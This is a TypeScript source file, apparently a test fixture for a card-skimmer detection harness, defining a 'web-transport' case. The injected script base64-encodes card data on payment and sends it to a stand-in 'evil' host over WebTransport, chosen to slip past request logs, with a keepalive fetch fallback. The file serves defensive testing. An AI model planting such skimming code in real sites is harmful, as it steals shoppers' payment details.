import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'web-transport',
  why: 'WebTransport first, over UDP where request logs do not look; where nobody answers there, an ordinary fetch.',
  covers: ['hard: unusual channel', 'sending: fetch'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`
    var d = encodeURIComponent(btoa(card()));
    var plain = function () { fetch('${site.origins.evil}/wt?d=' + d, { mode: 'no-cors', keepalive: true }); };
    try {
      var t = new WebTransport('https://evil.localhost:${String(site.ear)}/wt?d=' + d);
      t.ready.catch(plain); t.closed.catch(function () {});
      addEventListener('pagehide', plain);
    } catch (e) { plain(); }`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
